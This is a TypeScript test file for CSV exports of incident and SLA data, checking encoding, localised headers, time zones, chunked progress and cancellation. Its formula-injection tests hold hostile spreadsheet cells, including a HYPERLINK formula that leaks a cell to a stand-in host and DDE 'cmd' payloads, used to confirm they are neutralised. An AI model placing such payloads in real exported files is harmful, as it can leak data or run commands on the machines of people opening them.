// @vitest-environment node
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { exportIncidentsCsv, exportSlaResultsCsv, neutraliseFormula } from './csv';
import { incidentRow, incidentRowsOf, responseTimes, slaResults } from './test-rows';

async function readCsv(blob: Blob): Promise<{ bytes: Uint8Array; rows: string[][] }> {
  const bytes = new Uint8Array(await blob.arrayBuffer());
  // TextDecoder drops the BOM, as Excel does.
  const text = new TextDecoder('utf-8').decode(bytes);
  const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return { bytes, rows: parsed.data };
}

describe('neutraliseFormula', () => {
  it('prefixes a single quote to cells that a spreadsheet would run', () => {
    expect(neutraliseFormula('=HYPERLINK("http://evil.example","click")')).toBe(
      '\'=HYPERLINK("http://evil.example","click")',
    );
    expect(neutraliseFormula("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(neutraliseFormula('-1+1')).toBe("'-1+1");
    expect(neutraliseFormula('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(neutraliseFormula('\t=1+1')).toBe("'\t=1+1");
    expect(neutraliseFormula('\r=1+1')).toBe("'\r=1+1");
  });

  it('leaves ordinary text alone', () => {
    for (const text of ['Scan engine crash', '', '1-2', 'a=b', '株式会社サンプル', "'quoted"])
      expect(neutraliseFormula(text)).toBe(text);
  });
});

describe('exportIncidentsCsv', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    '-1+1',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=1+1\n+2',
  ];
  const rows = [
    ...hostile.map((title, i) => incidentRow(i, { title })),
    incidentRow(5, {
      title: 'メールゲートウェイ停止, "至急"',
      resolvedAt: null,
      firstResponseAt: null,
      responseMs: null,
      slaState: 'breached',
      outcome: 'breached',
    }),
  ];

  it('writes UTF-8 with a BOM, Japanese headers and local times, and neutralises hostile cells', async () => {
    const { bytes, rows: csv } = await readCsv(
      await exportIncidentsCsv({ incidents: rows, locale: 'ja', timeZone: 'Asia/Tokyo' }),
    );
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...data] = csv;
    expect(header?.slice(0, 7)).toEqual([
      'インシデント ID',
      '件名',
      '重要度',
      'SLA 適用レベル',
      '受付チャネル',
      'ステータス',
      '受付日時（Asia/Tokyo）',
    ]);
    expect(data).toHaveLength(rows.length);
    // Row 0 was received at 01:00 UTC = 10:00 in Tokyo.
    expect(data[0]?.slice(0, 7)).toEqual([
      'inc-00000',
      `'${hostile[0]}`,
      '2',
      '2',
      '優先電話回線',
      '解決済み',
      '2026-03-02 10:00:00',
    ]);
    expect(data.slice(0, 5).map((r) => r[1])).toEqual(hostile.map((h) => `'${h}`));
    // Commas, quotes and Japanese survive the round trip.
    expect(data[5]?.[1]).toBe('メールゲートウェイ停止, "至急"');
    expect(data[5]?.[9]).toBe(''); // no first answer
    expect(data[5]?.[11]).toBe('期限超過');
    // No cell of the file can start a formula.
    for (const cell of csv.flat()) expect(['=', '+', '-', '@', '\t', '\r']).not.toContain(cell.charAt(0));
  });

  it('writes English headers and the time in the customer’s zone', async () => {
    const { rows: csv } = await readCsv(
      await exportIncidentsCsv({ incidents: [incidentRow(0)], locale: 'en', timeZone: 'America/New_York' }),
    );
    expect(csv[0]?.[6]).toBe('Received (America/New_York)');
    // 01:00 UTC on Mar 2 is 20:00 on Mar 1 in New York (EST).
    expect(csv[1]?.[6]).toBe('2026-03-01 20:00:00');
    expect(csv[1]?.[15]).toBe('20'); // response time in minutes
  });
});

describe('exportSlaResultsCsv', () => {
  it('has one row per level with counts, met % and percentiles in minutes', async () => {
    const { rows: csv } = await readCsv(
      await exportSlaResultsCsv({ results: slaResults, responseTimes, locale: 'en' }),
    );
    expect(csv[0]).toEqual([
      'Severity',
      'Target (minutes)',
      'Clock',
      'Met',
      'Missed',
      'Breached (unanswered)',
      'Counted',
      'Met % (%)',
      'Response time, median (minutes)',
      'Response time, 90th percentile (minutes)',
    ]);
    expect(csv[1]).toEqual([
      'Level 1 Critical',
      '30',
      'Calendar time (24/7)',
      '2',
      '1',
      '0',
      '3',
      '66.67',
      '12',
      '45',
    ]);
    expect(csv[4]).toEqual(['Level 4 Low', '480', 'Business hours', '0', '0', '0', '0', '', '', '']);
  });
});

describe('chunked CSV export', () => {
  it('reports progress per chunk', async () => {
    const progress: Array<[number, number]> = [];
    await exportIncidentsCsv(
      { incidents: incidentRowsOf(1200), locale: 'ja', timeZone: 'Asia/Tokyo' },
      { onProgress: (d, t) => progress.push([d, t]) },
    );
    expect(progress).toEqual([
      [500, 1200],
      [1000, 1200],
      [1200, 1200],
    ]);
  });

  it('rejects with an AbortError when cancelled mid-way, after the progress made so far', async () => {
    const controller = new AbortController();
    const progress: Array<[number, number]> = [];
    const exporting = exportIncidentsCsv(
      { incidents: incidentRowsOf(1200), locale: 'ja', timeZone: 'Asia/Tokyo' },
      {
        signal: controller.signal,
        onProgress: (d, t) => {
          progress.push([d, t]);
          if (d >= 500) controller.abort();
        },
      },
    );
    await expect(exporting).rejects.toMatchObject({ name: 'AbortError' });
    expect(progress).toEqual([[500, 1200]]);
  });

  it('does not start when already cancelled, and passes a custom reason through', async () => {
    const progress: number[] = [];
    const reason = new Error('user closed the dialog');
    await expect(
      exportIncidentsCsv(
        { incidents: incidentRowsOf(10), locale: 'en', timeZone: 'UTC' },
        { signal: AbortSignal.abort(reason), onProgress: (d) => progress.push(d) },
      ),
    ).rejects.toBe(reason);
    expect(progress).toEqual([]);
  });
});
